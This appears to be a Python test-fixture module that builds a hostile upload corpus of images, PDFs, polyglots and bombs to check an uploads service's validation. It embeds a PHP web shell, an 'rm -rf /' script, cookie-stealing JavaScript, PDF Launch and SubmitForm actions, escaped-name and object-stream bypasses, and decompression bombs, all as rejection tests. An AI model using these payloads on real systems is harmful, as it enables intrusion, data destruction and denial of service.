"""A hostile upload corpus, generated (not checked in): each case is bytes, a file name and
what the uploads service must do with it ("ok" or the DomainError code it must raise)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfWriter


@dataclass(frozen=True)
class Case:
    id: str
    data: bytes
    name: str
    expect: str  # "ok", "bad_type", "too_large" or "empty"
    allowed: frozenset[str] = frozenset({"image", "pdf"})
    absent: bytes = b""  # for accepted polyglots: bytes that must not survive into storage


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def pdf(objects: dict[int, bytes], *, trailer: bytes = b"/Root 1 0 R", junk: bytes = b"") -> bytes:
    """A classic PDF with a correct cross-reference table (junk goes in unlisted)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    out.write(junk)
    size = max(objects) + 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        if number in offsets:
            out.write(b"%010d 00000 n \n" % offsets[number])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref))
    return out.getvalue()


def page_pdf(*, catalog: bytes = CATALOG, page: bytes = PAGE, **more: bytes) -> bytes:
    extra = {int(k[1:]): v for k, v in more.items()}  # o4=..., o5=...
    return pdf({1: catalog, 2: PAGES, 3: page, **extra})


def stream(body: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n" % (head, len(body)) + body + b"\nendstream"


def objstm_pdf(
    compressed: dict[int, bytes], *, plain: dict[int, bytes] | None = None, bomb: int = 0
) -> bytes:
    """A PDF 1.5 whose objects sit in a Flate-compressed object stream with an xref stream:
    nothing of them is visible in the file's bytes."""
    numbers = sorted(compressed)
    header = b" ".join(b"%d %d" % (n, 0) for n in numbers)  # offsets patched below
    bodies, offsets, pos = [], [], 0
    for n in numbers:
        offsets.append(pos)
        bodies.append(compressed[n] + b" ")
        pos += len(compressed[n]) + 1
    header = b" ".join(b"%d %d" % (n, off) for n, off in zip(numbers, offsets, strict=True)) + b" "
    raw = header + b"".join(bodies)
    stm_no = max(numbers + list(plain or {})) + 1
    xref_no = stm_no + 1
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    where: dict[int, tuple[int, int, int]] = {}
    for n, body in sorted((plain or {}).items()):
        where[n] = (1, out.tell(), 0)
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    packed = zlib.compress(raw) if not bomb else _deflate_zeros(raw, bomb)
    where[stm_no] = (1, out.tell(), 0)
    head = b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (len(numbers), len(header))
    out.write(b"%d 0 obj\n" % stm_no + stream(packed, head) + b"\nendobj\n")
    for index, n in enumerate(numbers):
        where[n] = (2, stm_no, index)
    where[xref_no] = (1, out.tell(), 0)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"
    for n in range(1, xref_no + 1):
        kind, a, b = where.get(n, (0, 0, 0xFFFF))
        rows += struct.pack(">BIH", kind, a, b)
    head = b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R" % (xref_no + 1)
    xref_at = out.tell()
    out.write(b"%d 0 obj\n" % xref_no + stream(rows, head) + b"\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def image(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (200, 30, 30) if mode == "RGB" else None).save(out, fmt, **save)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims width×height and whose pixels compress to almost nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    pixels = zlib.compress(row * height, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.bin", b"\x00" * (20 * 1024 * 1024))
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret-2026", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS_ACTION = b"<</S/JavaScript/JS(app.alert(document.cookie))>>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


def cases() -> list[Case]:
    jpeg = image("JPEG")
    png = image("PNG")
    good_pdf = page_pdf()
    bomb = zip_bomb()
    c = [
        # --- legitimate files, accepted (whatever the extension says, content decides) ---
        Case("jpeg", jpeg, "发票.jpg", "ok"),
        Case("png", png, "receipt.png", "ok"),
        Case("gif", image("GIF", mode="P"), "a.gif", "ok"),
        Case("webp", image("WEBP"), "a.webp", "ok"),
        Case("bmp", image("BMP"), "a.bmp", "ok"),
        Case("png-named-pdf", png, "contract.pdf", "ok"),
        Case("jpeg-named-exe", jpeg, "setup.exe", "ok"),
        Case("pdf", good_pdf, "合同.pdf", "ok"),
        Case("pdf-from-pypdf", _pypdf_blank(), "blank.pdf", "ok"),
        Case(
            "pdf-uri-link",
            page_pdf(
                page=PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/URI/URI(https://example.com/)>>>>]>>"
            ),
            "link.pdf",
            "ok",
        ),
        Case(
            "pdf-objstm-clean",
            objstm_pdf({1: CATALOG, 2: PAGES, 3: PAGE}),
            "compressed.pdf",
            "ok",
        ),
        Case("pdf-named-jpg", good_pdf, "photo.jpg", "ok"),
        # polyglots that are valid images: accepted, but re-encoding drops the payload
        Case("jpeg+zip", jpeg + bomb[:4000], "poly.jpg", "ok", absent=b"PK\x03\x04"),
        Case("jpeg+html", jpeg + HTML, "poly2.jpg", "ok", absent=b"<script>"),
        Case("png+html", png + HTML, "poly.png", "ok", absent=b"<script>"),
        Case("jpeg-comment-html", _jpeg_with_comment(HTML), "c.jpg", "ok", absent=b"<script>"),
        # --- scripts and markup under any name ---
        Case("svg", SVG, "x.svg", "bad_type"),
        Case("svg-as-jpg", SVG, "x.jpg", "bad_type"),
        Case("svg-xml-decl", b'<?xml version="1.0"?>' + SVG, "x.png", "bad_type"),
        Case("html-as-jpg", HTML, "invoice.jpg", "bad_type"),
        Case("html-as-png", HTML, "invoice.png", "bad_type"),
        Case("html-as-pdf", HTML, "invoice.pdf", "bad_type"),
        Case("html-bom", b"\xef\xbb\xbf" + HTML, "x.jpg", "bad_type"),
        Case("gif-js-polyglot", b"GIF89a/*\x00\x00*/=alert(1);" + HTML, "x.gif", "bad_type"),
        Case("html-then-pdf", HTML + good_pdf, "x.pdf", "bad_type"),
        Case("php", b"<?php system($_GET['c']); ?>", "shell.jpg", "bad_type"),
        Case("js", b"alert(document.cookie)", "x.jpg", "bad_type"),
        Case("exe", b"MZ\x90\x00\x03" + b"\x00" * 300, "invoice.jpg", "bad_type"),
        Case("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 300, "invoice.png", "bad_type"),
        Case("shell", b"#!/bin/sh\nrm -rf /\n", "x.pdf", "bad_type"),
        Case("eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n", "x.jpg", "bad_type"),
        Case("tiff", image("TIFF"), "scan.tif", "bad_type"),
        Case("ico", image("ICO", size=(16, 16)), "favicon.png", "bad_type"),
        # --- archives and bombs ---
        Case("zip-bomb", bomb, "photos.zip", "bad_type"),
        Case("zip-bomb-as-jpg", bomb, "photo.jpg", "bad_type"),
        Case("zip-bomb-as-pdf", bomb, "doc.pdf", "bad_type"),
        Case("gzip", zlib.compress(b"\x00" * 1_000_000), "x.png", "bad_type"),
        Case("png-bomb-6300", png_header_only(6300, 6300), "bomb.png", "too_large"),
        Case("png-bomb-wide", png_header_only(200_000, 200), "wide.png", "too_large"),
        Case("png-25mp", png_header_only(5000, 5000), "25mp.png", "too_large"),
        Case("gif-bomb", _gif_header(65535, 65535), "bomb.gif", "too_large"),
        # --- truncated and broken ---
        Case("jpeg-truncated", jpeg[: len(jpeg) // 2], "half.jpg", "bad_type"),
        Case("png-truncated", png[:40], "half.png", "bad_type"),
        Case("pdf-truncated", good_pdf[: len(good_pdf) // 3], "half.pdf", "bad_type"),
        Case("pdf-header-only", b"%PDF-1.4 truncated", "x.pdf", "bad_type"),
        Case("pdf-garbage", b"%PDF-1.7\n" + bytes(range(256)) * 20, "x.pdf", "bad_type"),
        Case("pdf-no-pages", pdf({1: b"<</Type/Catalog>>"}), "empty.pdf", "bad_type"),
        Case("pdf-deep-nesting", page_pdf(o4=b"[" * 5000 + b"]" * 5000), "deep.pdf", "bad_type"),
        Case("pdf-encrypted", encrypted_pdf(), "locked.pdf", "bad_type"),
        Case(
            "pdf-objstm-bomb",
            objstm_pdf({1: CATALOG, 2: PAGES, 3: PAGE}, bomb=100 * 1024 * 1024),
            "bomb.pdf",
            "bad_type",
        ),
        Case("empty", b"", "empty.jpg", "empty"),
        Case(
            "oversized", b"\xff\xd8\xff\xe0" + b"\x00" * (11 * 1024 * 1024), "big.jpg", "too_large"
        ),
        # --- PDFs with each forbidden feature ---
        Case(
            "pdf-openaction-js",
            page_pdf(catalog=CATALOG[:-2] + b"/OpenAction 4 0 R>>", o4=JS_ACTION),
            "a.pdf",
            "bad_type",
        ),
        Case(
            "pdf-names-javascript",
            page_pdf(
                catalog=CATALOG[:-2] + b"/Names<</JavaScript<</Names[(x) 4 0 R]>>>>>>",
                o4=JS_ACTION,
            ),
            "b.pdf",
            "bad_type",
        ),
        # the first bypass: name escapes, /J#61vaScript is /JavaScript and /J#53 is /JS
        Case(
            "pdf-name-escaped-js",
            page_pdf(
                catalog=CATALOG[:-2] + b"/Names<</J#61vaScript<</Names[(x) 4 0 R]>>>>>>",
                o4=b"<</S/J#61vaScript/J#53(app.alert(1))>>",
            ),
            "escaped.pdf",
            "bad_type",
        ),
        Case(
            "pdf-name-escaped-openaction",
            page_pdf(catalog=CATALOG[:-2] + b"/Open#41ction 4 0 R>>", o4=b"<</S/J#61vaScript>>"),
            "escaped2.pdf",
            "bad_type",
        ),
        # the second bypass: the script sits in a compressed object stream
        Case(
            "pdf-js-in-objstm",
            objstm_pdf({1: CATALOG[:-2] + b"/OpenAction 4 0 R>>", 2: PAGES, 3: PAGE, 4: JS_ACTION}),
            "objstm.pdf",
            "bad_type",
        ),
        Case(
            "pdf-js-only-in-objstm",
            objstm_pdf({4: JS_ACTION}, plain={1: CATALOG, 2: PAGES, 3: PAGE}),
            "objstm2.pdf",
            "bad_type",
        ),
        Case(
            "pdf-page-aa",
            page_pdf(page=PAGE[:-2] + b"/AA<</O 4 0 R>>>>", o4=JS_ACTION),
            "aa.pdf",
            "bad_type",
        ),
        Case(
            "pdf-aa-no-js",
            page_pdf(page=PAGE[:-2] + b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>>>"),
            "aa2.pdf",
            "bad_type",
        ),
        Case(
            "pdf-launch",
            page_pdf(
                page=PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>>>]>>"
            ),
            "launch.pdf",
            "bad_type",
        ),
        Case(
            "pdf-embedded-files",
            page_pdf(
                catalog=CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>>>",
                o4=b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
                o5=stream(b"MZ\x90\x00", b"/Type/EmbeddedFile"),
            ),
            "embedded.pdf",
            "bad_type",
        ),
        Case(
            "pdf-file-attachment",
            page_pdf(
                page=PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/FileAttachment"
                b"/Rect[0 0 9 9]/FS<</Type/Filespec/F(x.bat)>>>>]>>"
            ),
            "attach.pdf",
            "bad_type",
        ),
        Case(
            "pdf-richmedia",
            page_pdf(
                page=PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]>>"
            ),
            "flash.pdf",
            "bad_type",
        ),
        Case(
            "pdf-xfa",
            page_pdf(
                catalog=CATALOG[:-2] + b"/AcroForm<</Fields[]/XFA 4 0 R>>>>",
                o4=stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
            ),
            "xfa.pdf",
            "bad_type",
        ),
        Case(
            "pdf-submitform",
            page_pdf(
                page=PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/SubmitForm/F(https://evil.example/)>>>>]>>"
            ),
            "submit.pdf",
            "bad_type",
        ),
        Case(
            "pdf-unlisted-object",
            pdf({1: CATALOG, 2: PAGES, 3: PAGE}, junk=b"9 0 obj\n" + JS_ACTION + b"\nendobj\n"),
            "hidden.pdf",
            "bad_type",
        ),
        Case(
            "pdf-js-in-trailer",
            pdf({1: CATALOG, 2: PAGES, 3: PAGE}, trailer=b"/Root 1 0 R/JS(x)"),
            "t.pdf",
            "bad_type",
        ),
        # --- a type the caller does not take ---
        Case("pdf-where-images-only", good_pdf, "x.pdf", "bad_type", allowed=frozenset({"image"})),
        Case("image-where-pdf-only", jpeg, "x.jpg", "bad_type", allowed=frozenset({"pdf"})),
    ]
    assert len({case.id for case in c}) == len(c)
    return c


def _deflate_zeros(prefix: bytes, size: int) -> bytes:
    """prefix followed by `size` spaces, deflated chunk by chunk (never held whole)."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(prefix)]
    chunk = b" " * (1024 * 1024)
    for _ in range(size // len(chunk)):
        parts.append(packer.compress(chunk))
    parts.append(packer.flush())
    return b"".join(parts)


def _pypdf_blank() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = image("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def _gif_header(width: int, height: int) -> bytes:
    screen = struct.pack("<HHBBB", width, height, 0, 0, 0)
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
    return b"GIF89a" + screen + descriptor + b"\x02\x02\x44\x01\x00\x3b"
